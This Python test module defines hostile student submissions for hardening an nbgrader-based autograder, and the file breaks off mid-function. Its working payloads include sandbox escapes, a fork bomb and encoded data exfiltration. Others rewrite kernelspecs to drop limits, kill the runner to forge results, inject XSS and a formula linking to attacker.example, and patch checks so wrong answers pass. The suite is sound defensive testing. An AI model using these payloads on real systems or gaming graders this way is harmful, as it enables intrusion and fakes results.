"""Hostile and broken submissions: attacks on the course and the score, faults, unreadable notebooks.

Each `Attack` is one student's submission: a notebook built from the instructor's solution with some code
added or changed (`edits`, on the solution of one part; `COURSE` in the code is replaced by the course
folder's real path, which an attacker could guess), a whole notebook changed by a function (`tamper`), or
raw files instead of a notebook (`files`). `loses` are the parts that must score below full ("all": every
part scores 0); `status` is what the TA's status table must say about the student.
"""
import ast
import base64
import codecs
import hashlib
import io
import json
import os
import signal
import subprocess
import struct
import sys
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import matplotlib.image
import nbformat
import numpy as np
from nbgrader.api import Gradebook

from coursetools import assignments, cycle, grade
from coursetools.assignments import Assignment
from coursetools.assignments.cnn import ASSIGNMENT as CNN
from coursetools.assignments.cnn import sample_class
from coursetools.assignments.sample import Student
from coursetools.gradebook import scores
from coursetools.grading import commands, intake, notebook, workspace
from coursetools.grading.sandbox import sandbox_uid

OWN_USER = sandbox_uid() is not None  # the sandbox runs as a user of its own (the TA is root)
FIRST_LINE = {  # a line of each cnn part's solution that new code can go in front of (else: the function's first)
    "conv2d_naive": "    image, kernel = np.asarray(image), np.asarray(kernel)\n",
    "conv_output_size": "    if stride < 1:\n",
    "pad2d": "    x = np.asarray(x)\n",
    "conv2d": "    x, weight = np.asarray(x), np.asarray(weight)\n",
    "max_pool2d": "    x = np.asarray(x)\n",
    "avg_pool2d": "    x = np.asarray(x, dtype=float)\n",
}


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    loses: tuple[str, ...] | str = ()
    status: str = ""
    part: str | None = None                                       # the part whose solution `code` goes into
    code: str = ""                                                # run first in that part's function
    tamper: Callable[[nbformat.NotebookNode], None] | None = None  # changes the whole solved notebook
    files: dict = field(default_factory=dict)  # handed in instead of a notebook, by name: bytes, a callable that
    #                                            makes them from the course, a Path in the course to link to, or
    #                                            None for a folder
    assignment: Assignment = CNN

    def lost_parts(self) -> set[str]:
        return set(self.assignment.graded_parts) if self.loses == "all" else set(self.loses)

    def write(self, course: Path) -> None:
        """Hand the submission in to submitted/<name>/<assignment>/, as nbgrader's collect step would."""
        folder = course / "submitted" / self.name / self.assignment.id
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "timestamp.txt").write_text("2026-11-20 12:00:00.000000 UTC\n")
        if self.files:
            for name, content in self.files.items():
                if isinstance(content, Path):
                    (folder / name).symlink_to(course / content)
                elif content is None:
                    (folder / name).mkdir()
                else:
                    (folder / name).write_bytes(content(course) if callable(content) else content)
            return
        edits, solved = (), self.assignment.sample_class
        if self.part:
            indented = "".join(f"    {line}\n" for line in self.code.replace("COURSE", str(course)).splitlines())
            first = FIRST_LINE.get(self.part) if self.assignment is CNN else first_body_line(course, self)
            edits = ((self.part, first, indented + first),)
        nb = solved.submission(Student(self.name, self.description, self.assignment.graded_parts, edits=edits), course)
        if self.tamper:
            self.tamper(nb)
        nbformat.write(nb, str(folder / f"{self.assignment.notebook}.ipynb"))


def first_body_line(course: Path, attack: Attack) -> str:
    """The first line of the body of the attacked part's function in the instructor's solution (its docstring's
    first line, if it has one): new code goes in front of it."""
    source = notebook.cell_by_id(notebook.read(attack.assignment.source_notebook(course)), attack.part).source
    code = notebook.without_markers(source)
    function = next(node for node in ast.walk(ast.parse(code))
                    if isinstance(node, ast.FunctionDef) and node.name == attack.part)
    line = code.splitlines(keepends=True)[function.body[0].lineno - 1]
    assert code.count(line) == 1, f"{line!r} is not unique in {attack.part}'s solution"
    return line


def solved_notebook(course: Path, version: int = 4) -> bytes:
    """The instructor's solution as a student hands it in, in nbformat `version`."""
    nb = sample_class.submission(sample_class.FULL_SOLUTION, course)
    return nbformat.writes(nbformat.convert(nb, version) if version != 4 else nb).encode()


def edit_cell(grade_id: str, change: Callable) -> Callable:
    """A tamper function that calls `change(cell)` on the cell `grade_id`."""
    return lambda nb: change(notebook.cell_by_id(nb, grade_id))


def replace_in(grade_id: str, old: str, new: str) -> Callable:
    def change(cell):
        assert old in cell.source, f"{old!r} is not in {grade_id}"
        cell.source = cell.source.replace(old, new)
    return edit_cell(grade_id, change)


def drop_cell(grade_id):
    return lambda nb: nb.cells.remove(notebook.cell_by_id(nb, grade_id))


flipped_conv2d = replace_in("conv2d", "window * weight[o]", "window * weight[o, :, ::-1, ::-1]")


def then(*tampers):
    def tamper(nb):
        for each in tampers:
            each(nb)
    return tamper


def insert_after_setup(code):
    def tamper(nb):
        index = nb.cells.index(notebook.cell_by_id(nb, "grader_setup"))
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return tamper


ESCAPE = (
    Attack("reads_gradebook", "opens gradebook.db by its path", ("conv2d_naive",), part="conv2d_naive",
           code="open('COURSE/gradebook.db', 'rb').read()"),
    Attack("writes_gradebook", "rewrites every score in gradebook.db with sqlite3", ("conv2d_naive",),
           part="conv2d_naive", code="import sqlite3\n"
                                     "db = sqlite3.connect('COURSE/gradebook.db')\n"
                                     "db.execute('update grade set auto_score = 99'); db.commit()"),
    Attack("reads_gradebook_relative", "looks for the gradebook above its working folder", ("conv2d_naive",),
           part="conv2d_naive", code="open('../../../gradebook.db', 'rb').read()"),
    Attack("reads_source", "reads the instructor's notebook with its hidden tests", ("pad2d",), part="pad2d",
           code="open('COURSE/source/cnn/cnn.ipynb').read()"),
    Attack("reads_config", "reads nbgrader_config.py", ("pad2d",), part="pad2d",
           code="open('COURSE/nbgrader_config.py').read()"),
    Attack("overwrites_classmate", "overwrites a classmate's submission", ("conv2d_naive",), part="conv2d_naive",
           code="open('COURSE/submitted/full_solution/cnn/cnn.ipynb', 'w').write('{}')"),
    # As root, the sandbox runs as a user of its own, who may not write to the empty folder that hides the
    # course; as anyone else, the file lands in that throwaway folder. Either way the course is untouched.
    Attack("writes_course_file", "drops a file into the course folder", ("conv2d_naive",) if OWN_USER else (),
           part="conv2d_naive",
           code="open('COURSE/planted.txt', 'w').write('x')"),
    Attack("uses_network", "downloads from the internet", ("conv2d_naive",), part="conv2d_naive",
           code="import urllib.request\nurllib.request.urlopen('http://pypi.org', timeout=5)"),
    Attack("leaves_a_process", "starts a process that outlives the grading (sleep 600)", (),
           tamper=insert_after_setup("import subprocess\nsubprocess.Popen(['sleep', '600'])")),
    Attack("probes_environment", "prints the environment, looking for the grading run", (),
           tamper=insert_after_setup("import os\nprint(sorted(os.environ.items()))")),
)

# np.zeros maps fresh pages without touching them: the 3 GiB address-space limit stops the fourth 800 MB
# array at once, however loaded the machine is (np.ones wrote 2.4 GB first and could hit the cell timeout).
HOARD = "hoard = [np.zeros(10**8) for _ in range(1000)]"

FAULTS = (
    Attack("infinite_loop", "avg_pool2d never returns", ("avg_pool2d",), "timed out", part="avg_pool2d",
           code="while True:\n    pass"),
    Attack("os_exit", "Conv2D.parameters() calls os._exit", ("Conv2D",), "kernel died",
           tamper=replace_in("Conv2D", "    def parameters(self):\n",
                             "    def parameters(self):\n        import os; os._exit(3)\n")),
    Attack("out_of_memory", "max_pool2d allocates without end", ("max_pool2d",), "MemoryError", part="max_pool2d",
           code=HOARD),
    Attack("sys_exit", "conv2d_naive calls sys.exit()", ("conv2d_naive",), "SystemExit", part="conv2d_naive",
           code="import sys\nsys.exit(0)"),
    Attack("keyboard_interrupt", "pad2d raises KeyboardInterrupt", ("pad2d",), "KeyboardInterrupt", part="pad2d",
           code="raise KeyboardInterrupt"),
    Attack("segfault", "SimpleConvNet.forward crashes the interpreter (reads address 0)", ("SimpleConvNet",),
           "kernel died", tamper=replace_in("SimpleConvNet", "        for layer in self.layers:\n",
                                            "        import ctypes; ctypes.string_at(0)\n"
                                            "        for layer in self.layers:\n")),
    Attack("fork_bomb", "max_pool2d starts processes until it cannot (each sleeps for 10 minutes)", ("max_pool2d",),
           part="max_pool2d", code="import os, time\nif not globals().get('_forked'):\n    for _ in range(400):\n"
                                   "        if os.fork() == 0:\n            time.sleep(600)\n            os._exit(0)\n"
                                   "    globals()['_forked'] = True"),
    Attack("prints_megabytes", "conv2d prints 20 MB each call", (), part="conv2d", code="print('x' * 20_000_000)"),
    Attack("writes_huge_file", "conv_output_size writes a 200 MB file", ("conv_output_size",), "OSError",
           part="conv_output_size", code="open('big.bin', 'wb').write(bytes(200 * 2**20))"),
)

TAMPERING = (
    Attack("deletes_test_cells", "deletes every visible test cell of Part C (solution right)", (),
           tamper=then(drop_cell("test_conv2d_example"), drop_cell("test_conv2d_reference"))),
    Attack("empties_test_cells", "wrong conv2d, and its test cells emptied", ("conv2d",),
           tamper=then(flipped_conv2d, edit_cell("test_conv2d_reference", lambda c: setattr(c, "source", "pass")),
                       edit_cell("test_conv2d_example", lambda c: setattr(c, "source", "pass")))),
    Attack("raises_points", "wrong conv2d, and its test cell's points set to 1000", ("conv2d",),
           tamper=then(flipped_conv2d, edit_cell("test_conv2d_reference",
                                                 lambda c: c.metadata.nbgrader.update(points=1000)))),
    Attack("unlocks_and_renames", "wrong conv2d, its test cell unlocked and renamed", ("conv2d",),
           tamper=then(flipped_conv2d, edit_cell("test_conv2d_reference",
                                                 lambda c: c.metadata.nbgrader.update(locked=False, grade_id="mine")))),
    Attack("test_cell_made_markdown", "wrong conv2d, its test cell turned into markdown", ("conv2d",),
           tamper=then(flipped_conv2d, edit_cell("test_conv2d_reference",
                                                 lambda c: setattr(c, "cell_type", "markdown")))),
    Attack("rigged_eq", "conv2d_naive returns an object equal to everything", ("conv2d_naive",), part="conv2d_naive",
           code="class Anything:\n    def __eq__(self, other): return True\n    shape = property(lambda self: (2, 2))\n"
                "return Anything()"),
    Attack("ndarray_subclass", "pad2d returns an ndarray subclass whose comparisons are all True", ("pad2d",),
           part="pad2d", code="class Yes(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n"
                              "return np.zeros((1, 1)).view(Yes)"),
    Attack("silences_tracebacks", "wrong conv2d, and IPython's traceback display switched off", ("conv2d",),
           tamper=then(flipped_conv2d, insert_after_setup(
               "get_ipython().showtraceback = lambda *a, **k: None\n"
               "get_ipython().showsyntaxerror = lambda *a, **k: None"))),
    Attack("patches_allclose", "wrong conv2d, and np.allclose patched to always agree (the tests' np is the "
           "grader's own)", ("conv2d",),
           tamper=then(flipped_conv2d, insert_after_setup("np.allclose = lambda *a, **k: True"))),
    Attack("replaces_grader", "wrong conv2d, and the hidden grader object replaced by a no-op (it is not in the "
           "kernel: the grader's own judges)", ("conv2d",),
           tamper=then(flipped_conv2d, insert_after_setup(
               "class _Anything:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
               "_grader = _Anything()"))),
    Attack("calls_hidden_reference", "conv2d returns the hidden grader's own reference result (which does not "
           "exist where its code runs)", ("conv2d",), part="conv2d", code="return _grader.conv2d(x, weight, bias, stride, padding)"),
    Attack("patches_grader_methods", "wrong conv2d, and the hidden grader's checks patched into no-ops", ("conv2d",),
           tamper=then(flipped_conv2d, insert_after_setup(
               "for _name in ('compare', 'check', 'expect_value_error', 'check_loops'):\n"
               "    setattr(_Grader, _name, lambda *a, **k: None)"))),
    Attack("prints_hidden_tests", "prints the hidden grader's source, hoping to find it in the feedback (there is "
           "none in the kernel)", (),
           tamper=insert_after_setup("import inspect\nfor _f in vars(_Grader).values():\n"
                                     "    if inspect.isfunction(_f):\n        print(inspect.getsource(_f))")),
)

BROKEN = (
    Attack("not_json", "a notebook cut off halfway", "all", "not valid JSON",
           files={f"{CNN.notebook}.ipynb": b'{"cells": [{"cell_type": "code", "sour'}),
    Attack("empty_file", "an empty cnn.ipynb", "all", "empty file", files={f"{CNN.notebook}.ipynb": b""}),
    Attack("binary_garbage", "random bytes named cnn.ipynb", "all", "not valid JSON",
           files={f"{CNN.notebook}.ipynb": bytes(range(256)) * 4}),
    Attack("json_not_notebook", "a JSON list", "all", "not a notebook", files={f"{CNN.notebook}.ipynb": b"[1, 2, 3]"}),
    Attack("missing_notebook", "hands in a text file only", "all", "no cnn.ipynb", files={"notes.txt": b"sorry"}),
    Attack("links_to_source", "cnn.ipynb is a symbolic link to the instructor's notebook", "all", "symbolic link",
           files={f"{CNN.notebook}.ipynb": Path("source") / CNN.id / f"{CNN.notebook}.ipynb"}),
    Attack("notebook_is_a_folder", "cnn.ipynb is a folder", "all", "no cnn.ipynb", files={f"{CNN.notebook}.ipynb": None}),
    Attack("misnamed_notebook", "the solution saved as 'cnn (1).ipynb'", (), "as cnn.ipynb",
           files={"cnn (1).ipynb": solved_notebook}),
    Attack("nbformat_3", "the solution saved in nbformat 3", (), "converted from nbformat 3",
           files={f"{CNN.notebook}.ipynb": lambda course: solved_notebook(course, 3)}),
    Attack("broken_metadata", "the solution with garbage nbgrader metadata in two cells", (), "repaired",
           tamper=then(edit_cell("conv2d", lambda c: c.metadata.update(nbgrader="garbage")),
                       edit_cell("test_pad2d", lambda c: c.metadata.nbgrader.pop("points")))),
)

def append_cell(code):
    """A tamper function that adds a code cell at the end of the notebook (it runs after every test)."""
    return lambda nb: nb.cells.append(nbformat.v4.new_code_cell(code))


# Leaks: everything student code can reach (files near it, the kernel's history, linecache), encoded so that
# no filter on output text would recognise it. LEAK_DECODERS turn each attack's printed payload back into text.
COLLECT = """import glob, linecache, os, zlib
_texts = []
for _root in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), '/tmp'}:
    for _path in glob.glob(os.path.join(_root, '**', '*.ipynb'), recursive=True) + glob.glob(os.path.join(_root, '*.json')):
        try:
            _texts.append(open(_path, errors='replace').read())
        except OSError:
            pass
_texts.append('\\n'.join(get_ipython().user_ns.get('In', [])))
_texts.append('\\n'.join(''.join(v[2]) for v in list(linecache.cache.values()) if isinstance(v, tuple) and len(v) > 2))
_blob = zlib.compress('\\n'.join(_texts).encode(), 9)
"""
LEAKS = (
    Attack("leaks_base64", "prints everything it can reach, zlib-compressed and base64-encoded", (),
           tamper=append_cell(COLLECT + "import base64\nprint('LEAK', base64.b64encode(_blob).decode())")),
    Attack("leaks_hex_split", "prints everything it can reach as hex, split across many prints", (),
           tamper=append_cell(COLLECT + "_hex = _blob.hex()\nfor _i in range(0, len(_hex), 500):\n"
                                        "    print('LEAK', _hex[_i:_i + 500])")),
    Attack("leaks_in_image", "hides everything it can reach in the pixels of a PNG image it displays", (),
           tamper=append_cell(COLLECT + "import io, struct\nimport matplotlib.pyplot as plt\nfrom IPython.display import Image, display\n"
                                        "_data = struct.pack('>I', len(_blob)) + _blob\n_data += bytes(-len(_data) % 256)\n"
                                        "_buffer = io.BytesIO()\n_gray = np.frombuffer(_data, np.uint8).reshape(-1, 256)\n"
                                        "plt.imsave(_buffer, np.stack([_gray] * 3, axis=-1), format='png')\n"
                                        "display(Image(_buffer.getvalue()))")),
    Attack("leaks_rot13_reversed", "prints everything it can reach reversed and rot13-encoded, in its own solution cell",
           (), tamper=replace_in("conv2d", "def conv2d(", COLLECT.replace("_texts", "_t2") +
                                 "import codecs\nprint('LEAK', codecs.encode(zlib.decompress(_blob).decode()[::-1], 'rot13')"
                                 "[:90000].replace('\\n', '~~~'))\n\n\ndef conv2d(")),
)

def leaked_text(attack: str, nb) -> str:
    """What a LEAKS attack printed or displayed, decoded back into text (as much of it as the output caps kept)."""
    printed = [line[len("LEAK "):] for cell in nb.cells for line in notebook.printed_lines(cell)
               if line.startswith("LEAK ")]
    if attack == "leaks_rot13_reversed":
        return codecs.decode(printed[0], "rot13")[::-1].replace("~~~", "\n")
    if attack == "leaks_base64":
        data = base64.b64decode(printed[0][:len(printed[0]) // 4 * 4])
    elif attack == "leaks_hex_split":
        hex_digits = "".join(printed)
        data = bytes.fromhex(hex_digits[:len(hex_digits) // 2 * 2])
    else:
        image = next(output.data["image/png"] for cell in nb.cells for output in cell.get("outputs", [])
                     if "image/png" in output.get("data", {}))
        pixels = matplotlib.image.imread(io.BytesIO(base64.b64decode(image)))[..., 0]
        data = np.rint(pixels * 255).astype(np.uint8).tobytes()
        data = data[4:4 + struct.unpack(">I", data[:4])[0]]
    return zlib.decompressobj().decompress(data).decode(errors="replace")


def hidden_lines_in(text: str, hidden: set[str]) -> set[str]:
    """The hidden-test lines (of 20 characters or more) that `text` holds, as they are or JSON-escaped."""
    return {line for line in hidden if len(line) >= 20 and (line in text or json.dumps(line)[1:-1] in text)}


# The sandbox's configuration from inside: each attack then prints the kernel's limits and what it managed, and
# tests/test_hostile.py checks that the kernel still runs under the configured limits.
SHOW_LIMITS = ("import os, resource\nprint('LIMITS', resource.getrlimit(resource.RLIMIT_AS)[0], "
               "resource.getrlimit(resource.RLIMIT_NPROC)[0], os.environ.get('SHADOWED', '-'))")
UNLIMIT_SPECS = """import glob, json, os
for _root in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), '/tmp', *os.environ.get('JUPYTER_PATH', '').split(':')}:
    for _path in glob.glob(os.path.join(_root or '.', '**', 'kernel.json'), recursive=True):
        try:
            _spec = json.load(open(_path))
            _spec['argv'] = _spec['argv'][_spec['argv'].index('--') + 1:] if '--' in _spec['argv'] else _spec['argv']
            json.dump(_spec, open(_path, 'w'))
            print('rewrote', _path)
        except (OSError, ValueError) as _error:
            print('could not rewrite', _path, type(_error).__name__)
"""
PLANT_SPEC = """import json, os, sys
for _folder in (os.path.join(os.path.expanduser('~'), '.local/share/jupyter/kernels/sandboxed'), 'kernels/sandboxed'):
    try:
        os.makedirs(_folder, exist_ok=True)
        json.dump({'argv': [sys.executable, '-m', 'ipykernel_launcher', '-f', '{connection_file}'],
                   'language': 'python', 'display_name': 'free'}, open(os.path.join(_folder, 'kernel.json'), 'w'))
    except OSError as _error:
        print('could not plant', _folder, type(_error).__name__)
"""
SHADOW_LAUNCHER = """open('ipykernel_launcher.py', 'w').write(
    "import os, runpy, sys\\nos.environ['SHADOWED'] = '1'\\nsys.path.pop(0)\\nrunpy.run_module('ipykernel_launcher', run_name='__main__')\\n")
"""
RESTART = "import os\nos._exit(0)"
SANDBOX_CONFIG = tuple(
    Attack(name, description, (), "kernel died",  # each insert goes right after the setup cell: restart, then code
           tamper=then(insert_after_setup(RESTART), insert_after_setup(code), append_cell(SHOW_LIMITS)))
    for name, description, code in (
        ("unlimits_kernelspec", "rewrites every kernel.json it finds without the prlimit prefix, then restarts the "
         "kernel", UNLIMIT_SPECS),
        ("plants_kernelspec", "plants a kernelspec named 'sandboxed' without limits in its home and working folder, "
         "then restarts the kernel", PLANT_SPEC),
        ("shadows_kernel_launcher", "writes ipykernel_launcher.py into the kernel's folder, then restarts the kernel",
         SHADOW_LAUNCHER),
    ))

# Forged grading results: files where the runner would write them, then the runner killed.
KILL_RUNNER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
FORGE = """import json, os
for _folder in {os.getcwd(), os.path.dirname(os.getcwd())}:
    try:
        json.dump(%s, open(os.path.join(_folder, 'incidents.json'), 'w'))
        if os.path.exists(os.path.join(_folder, 'notebook.ipynb')):
            _nb = json.load(open(os.path.join(_folder, 'notebook.ipynb')))
            for _cell in _nb['cells']:
                if _cell['cell_type'] == 'code':
                    _cell['outputs'] = []
            json.dump(_nb, open(os.path.join(_folder, 'executed.ipynb'), 'w'))
    except OSError:
        pass
"""
FORGERY = (
    Attack("forges_formula_incident", "writes incidents.json holding a spreadsheet formula and kills the runner", (),
           tamper=then(insert_after_setup(FORGE % "['=HYPERLINK(\"http://attacker.example\", \"ok\")']"
                                                         + KILL_RUNNER))),
    Attack("forges_incident_types", "writes incidents.json holding a number (which crashed the status table) and kills "
           "the runner", (), tamper=insert_after_setup(FORGE % "[1]" + KILL_RUNNER)),
    Attack("forges_clean_run", "avg_pool2d never returns, and a later cell writes an executed notebook with no errors "
           "and no incidents, then kills the runner", ("avg_pool2d",), "timed out",
           tamper=then(replace_in("avg_pool2d", "    x = np.asarray(x, dtype=float)\n",
                                  "    while True:\n        pass\n    x = np.asarray(x, dtype=float)\n"),
                       append_cell(FORGE % "[]" + KILL_RUNNER))),
    Attack("escapes_in_file_name", "hands in the solution under a file name holding terminal escape codes and a formula",
           (), "as cnn.ipynb", files={"=cmd|' -C calc'!A0\x1b[2J\x1b[31m.ipynb": solved_notebook}),
)

# Kernels that stop answering: each must cost only its own part, within seconds of the cell timeout.
HUNG_KERNELS = (
    Attack("replaces_isinstance", "the SimpleConvNet cell replaces builtins.isinstance, which leaves the kernel unable "
           "to answer", (), "hung the kernel",
           tamper=replace_in("SimpleConvNet", "class SimpleConvNet", "import builtins\n"
                             "builtins.isinstance = lambda obj, cls: True\n\n\nclass SimpleConvNet")),
    Attack("ignores_interrupts", "avg_pool2d ignores SIGINT and loops forever, so the interrupt never takes",
           ("avg_pool2d",), "hung the kernel", part="avg_pool2d",
           code="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    Attack("sleeps_in_c", "max_pool2d sleeps in C with SIGINT ignored (time.sleep never returns to Python)",
           ("max_pool2d",), "hung the kernel", part="max_pool2d",
           code="import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(10**6)"),
)

# Script in what the TA's and students' browsers show of a submission (the Formgrader, the feedback). Each payload,
# if it ever ran, would fetch /api/contents?pwned=<name> with the viewer's session, retitle the page and set
# window.__pwned (tests/test_browser_hostile.py watches for all three). The solutions are right: full marks.
def pwned(name: str) -> str:
    return (f"fetch('/api/contents?pwned={name}');document.title='pwned {name}';window.__pwned='{name}';"
            f"console.log('pwned {name}')")


def displays(kind: str, payload: str) -> str:
    """Code that displays `payload` wrapped in IPython.display's `kind` (HTML, Javascript, SVG, Markdown)."""
    return f"from IPython.display import {kind}, display\ndisplay({kind}({payload!r}))"


def append_markdown(text):
    """A tamper function that adds a markdown cell of the student's own at the end of the notebook."""
    return lambda nb: nb.cells.append(nbformat.v4.new_markdown_cell(text))


XSS_LINK = "see my working"  # the text of xss_javascript_link's link, which the browser test clicks
XSS = tuple(Attack(name, description, **attack(pwned(name))) for name, description, attack in (
    ("xss_markdown_answer", "the written answer ends in <img src=x onerror=...>", lambda js: {"tamper": edit_cell(
        CNN.written_answer, lambda c: setattr(c, "source", c.source + f'\n\n<img src=x onerror="{js}">'))}),
    ("xss_html_script", "pad2d displays HTML holding a <script>",
     lambda js: {"part": "pad2d", "code": displays("HTML", f"<script>{js}</script>")}),
    ("xss_javascript", "a cell of its own displays Javascript(...)",
     lambda js: {"tamper": append_cell(displays("Javascript", js))}),
    ("xss_svg", "a cell of its own displays an SVG with an onload handler and a <script>",
     lambda js: {"tamper": append_cell(displays("SVG", f'<svg xmlns="http://www.w3.org/2000/svg" width="40" '
                                                       f'height="40" onload="{js}"><script>{js}</script></svg>'))}),
    ("xss_javascript_link", "a markdown cell of its own links to javascript:", lambda js: {"tamper": append_markdown(
        f'My notes: <a href="javascript:{js}">{XSS_LINK}</a>')}),
    ("xss_markdown_output", "a cell of its own displays Markdown(<img src=x onerror=...>)",
     lambda js: {"tamper": append_cell(displays("Markdown", f'<img src=x onerror="{js}">'))}),
    ("xss_image_metadata", "displays a real PNG whose width metadata is '1 onload=...' (nbconvert writes it into "
     "the <img> tag unquoted)", lambda js: {"tamper": append_cell(
         "import base64, io\nimport matplotlib.pyplot as plt\nfrom IPython.display import display\n"
         "_png = io.BytesIO()\nplt.imsave(_png, np.outer(np.arange(64), np.arange(64)), format='png')\n"
         "display({'image/png': base64.b64encode(_png.getvalue()).decode(), 'text/plain': 'my figure'}, raw=True, "
         f"metadata={{'image/png': {{'width': {'1 onload=' + js.replace(' ', '')!r}}}}})")}),
))

ATTACKS = ESCAPE + FAULTS + TAMPERING + BROKEN + LEAKS + SANDBOX_CONFIG + FORGERY + HUNG_KERNELS + XSS


def rewrite(grade_id: str, code: str) -> Callable:
    """A tamper function that replaces a solution cell with `code`."""
    return edit_cell(grade_id, lambda cell: setattr(cell, "source", code))


def append_to(grade_id: str, code: str) -> Callable:
    """A tamper function that adds top-level `code` at the end of a solution cell (it runs when the cell loads)."""
    return edit_cell(grade_id, lambda cell: setattr(cell, "source", cell.source + "\n\n" + code))


# Work the TA's process does for student code is bounded: a stand-in's reference runs under the student's limits
# (coursetools/verification/references.py), the wire refuses a flood before reading it, the intake refuses what no
# notebook is. Each attack strikes only where the grader's stand-in is (its __qualname__ is not the student's).
FLOOD_THE_WIRE = """import fcntl, json, os, struct, sys
if sys.argv[0].endswith('verify_worker.py'):  # the worker's own pipe to the TA, found in /proc
    for fd in sorted(int(name) for name in os.listdir('/proc/self/fd')):
        try:
            if fd > 2 and os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:') and \\
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                header = json.dumps({'tree': {'dict': {'ok': None}}, 'blobs': [2**28] * 12}).encode()
                os.write(fd, struct.pack('<Q', len(header)) + header)
                for _ in range(12 * 16):
                    os.write(fd, bytes(2**24))
        except OSError:
            pass"""
BOUNDS = (
    Attack("huge_reference_call", "conv2d asks the grader's max_pool2d stand-in, once, for a 1600x1600 image pooled by "
           "800x800 windows at stride 1 (76 s in the TA's process unbounded)", ("conv2d",), part="conv2d",
           code="if max_pool2d.__qualname__ != 'max_pool2d' and not getattr(conv2d, 'asked', False):\n"
                "    conv2d.asked = True\n    try:\n        max_pool2d(np.zeros((1, 1, 1600, 1600)), 800, 1)\n"
                "    except Exception:\n        pass"),
    Attack("huge_reference_memory", "conv2d asks the grader's pad2d stand-in to pad a 1x1 image by 11000 (3.9 GB)",
           ("conv2d",), part="conv2d",
           code="if pad2d.__qualname__ != 'pad2d':\n    pad2d(np.zeros((1, 1, 1, 1)), 11000)"),
    Attack("floods_the_wire", "avg_pool2d writes to the worker's pipe a message of twelve 256 MiB arrays",
           ("avg_pool2d",), part="avg_pool2d", code=FLOOD_THE_WIRE),
    Attack("deeply_nested_json", "cnn.ipynb is 100 KB of nested [ (a RecursionError in json.loads)", "all",
           "nested too deeply", files={f"{CNN.notebook}.ipynb": b"[" * 100_000}),
    Attack("huge_notebook", "the solution followed by 51 MB of spaces", "all", "more than a notebook may have",
           files={f"{CNN.notebook}.ipynb": lambda course: solved_notebook(course) + b" " * (51 * 2**20)}),
    Attack("too_many_cells", "the solution with 5,000 empty cells added", "all", "cells, more than",
           tamper=lambda nb: nb.cells.extend(nbformat.v4.new_code_cell("") for _ in range(5000))),
)

# Points only for the work: a part must also work in the student's program as submitted (no stand-ins), the
# worker's isinstance uses the real type, the hidden test sets its own weights, the for-loop rule follows what
# the code calls, and no stand-in answers for the part under test.
NAIVE_ON_CONV2D = """def conv2d_naive(image, kernel):
    image, kernel = np.asarray(image, dtype=float), np.asarray(kernel, dtype=float)
    if image.ndim != 2 or kernel.ndim != 2:
        raise ValueError("image and kernel must be 2-D")
    for _ in range(1):
        pass
    return conv2d(image[None, None], kernel[None, None])[0, 0]
"""
CONV2D_ON_NAIVE = """def conv2d(x, weight, bias=None, stride=1, padding=0):
    x, weight = np.asarray(x, dtype=float), np.asarray(weight, dtype=float)
    if x.ndim != 4 or weight.ndim != 4 or x.shape[1] != weight.shape[1]:
        raise ValueError("x must be (N, C, H, W) and weight (C_out, C, kH, kW)")
    (sh, sw), (ph, pw) = as_pair(stride), as_pair(padding)
    H_out = conv_output_size(x.shape[2], weight.shape[2], sh, ph)
    W_out = conv_output_size(x.shape[3], weight.shape[3], sw, pw)
    padded = pad2d(x, (ph, pw))
    out = np.zeros((x.shape[0], weight.shape[0], H_out, W_out))
    for n in range(x.shape[0]):
        for o in range(weight.shape[0]):
            for c in range(x.shape[1]):
                out[n, o] += conv2d_naive(padded[n, c], weight[o, c])[::sh, ::sw]
            if bias is not None:
                out[n, o] += bias[o]
    return out
"""
SIZE_ON_PAD = """def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    if stride < 1 or padding < 0:
        raise ValueError("stride must be >= 1 and padding >= 0")
    size = (pad2d(np.zeros((1, input_size)), (0, padding)).shape[1] - kernel_size) // stride + 1
    if size < 1:
        raise ValueError("the kernel does not fit")
    return size
"""
PAD_ON_SIZE = """def pad2d(x, padding):
    x = np.asarray(x)
    (ph, pw), (H, W) = as_pair(padding), x.shape[-2:]
    out = np.zeros(x.shape[:-2] + (conv_output_size(H, 1, 1, ph), conv_output_size(W, 1, 1, pw)), dtype=x.dtype)
    out[..., ph:ph + H, pw:pw + W] = x
    return out
"""
COMPUTES_NOTHING = """
    def forward(self, x):
        return np.zeros((len(x), self.classes))

    def __call__(self, x):
        return self.forward(x)

    def parameters(self):
        return []
"""
FAKE_LAYERS = """class _Layer:
    # Claims to be whatever class it names, reports zero weights of the right shapes, ignores new ones.
    def __init__(self, kind, **fields):
        object.__setattr__(self, "fields", dict(fields, kind=kind))

    __class__ = property(lambda self: self.fields["kind"])

    def __getattr__(self, name):
        if name in self.fields:
            return self.fields[name]
        raise AttributeError(name)

    def __setattr__(self, name, value):
        pass


class SimpleConvNet:
    def __init__(self, in_channels=1, image_size=(28, 28), num_classes=10, seed=None):
        H, W = image_size
        self.classes = num_classes
        features = 8 * (H // 2) * (W // 2)
        self.layers = [_Layer(Conv2D, weight=np.zeros((8, in_channels, 3, 3)), bias=np.zeros(8), stride=1, padding=1),
                       _Layer(ReLU), _Layer(MaxPool2D, kernel_size=2, stride=None), _Layer(Flatten),
                       _Layer(Dense, weight=np.zeros((features, num_classes)), bias=np.zeros(num_classes))]
""" + COMPUTES_NOTHING
ZERO_WEIGHTS = """class _Frozen:
    # Weights that read as zeros, whatever is set.
    weight = property(lambda self: np.zeros(self.shape), lambda self, value: None)
    bias = property(lambda self: np.zeros(self.shape[0 if self.first else 1]), lambda self, value: None)


def _frozen(kind, first, **fields):
    # A real instance of a subclass of `kind` (whatever the name means when the net is built) that computes nothing.
    layer = object.__new__(type("Frozen" + kind.__name__, (_Frozen, kind), {"first": first}))
    layer.__dict__.update(fields)
